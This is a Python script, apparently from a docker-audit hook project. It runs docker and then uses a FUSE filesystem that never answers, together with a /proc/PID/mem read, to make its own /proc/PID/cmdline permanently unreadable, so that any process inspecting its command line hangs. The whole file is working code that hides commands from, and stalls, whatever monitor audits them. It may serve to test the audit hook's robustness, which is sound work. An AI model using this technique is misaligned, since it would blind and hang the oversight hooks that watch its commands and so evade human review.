# Copyright: (c) 2026, the claude_hooks.docker_audit team
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Executes docker with the arguments, then makes its own /proc/PID/cmdline unreadable for ever; prints its pid.

A child reads a page of ours through /proc/PID/mem. The page is of a file in a FUSE of our own that never answers, so
the child waits with our mmap_lock, and a thread of ours waits to write it: whoever asks for our command line waits.
The messages are those of linux/fuse.h.
"""

from __future__ import annotations

import mmap
import os
import struct
import sys
import threading
import time

import namespaces

FOLDER = '/tmp/hang'
LOOKUP, FORGET, GETATTR, OPEN, READ, INIT, INTERRUPT = 1, 2, 3, 14, 15, 26, 36

if os.fork() == 0:
    os.execv('/usr/bin/docker', ['docker', *sys.argv[1:]])
os.wait()
namespaces.enter(namespaces.MOUNT)
os.makedirs(FOLDER)
fuse = os.open('/dev/fuse', os.O_RDWR)
options = b'fd=%d,rootmode=40000,user_id=0,group_id=0' % fuse
namespaces.check(namespaces.libc.mount(b'x', FOLDER.encode(), b'fuse', 0, options))


def attributes(inode):
    mode = 0o40755 if inode == 1 else 0o100755
    return struct.pack('=QQQQQQIIIIIIIIII', inode, 4096, 8, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, 4096, 0)


def serve():
    while True:
        _length, operation, unique, node = struct.unpack_from('=IIQQ', os.read(fuse, 1 << 17))
        answers = {
            INIT: struct.pack('=IIIIHHIIHHII', 7, 31, 0, 0, 1, 1, 4096, 1, 1, 0, 0, 0) + b'\0' * 24,
            LOOKUP: struct.pack('=QQQQII', 2, 0, 1, 1, 0, 0) + attributes(2),
            GETATTR: struct.pack('=QII', 1, 0, 0) + attributes(node),
            OPEN: struct.pack('=QII', 1, 0, 0),
        }
        if operation not in (READ, FORGET, INTERRUPT):
            body = answers.get(operation, b'')
            error = 0 if operation in answers else -38
            os.write(fuse, struct.pack('=IiQ', 16 + len(body), error, unique) + body)


if os.fork() == 0:
    serve()
time.sleep(0.5)
file = os.open(FOLDER + '/f', os.O_RDONLY)
area = mmap.mmap(file, 4096, flags=mmap.MAP_PRIVATE, prot=mmap.PROT_READ)
with open('/proc/self/maps') as maps:
    start = next(int(line.partition('-')[0], 16) for line in maps if FOLDER in line)
if os.fork() == 0:
    with open('/proc/%d/mem' % os.getppid(), 'rb', 0) as memory:
        memory.seek(start)
        memory.read(8)
    os._exit(0)
time.sleep(0.5)
print(os.getpid(), flush=True)
threading.Thread(target=lambda: mmap.mmap(-1, 4096), daemon=True).start()
time.sleep(600)
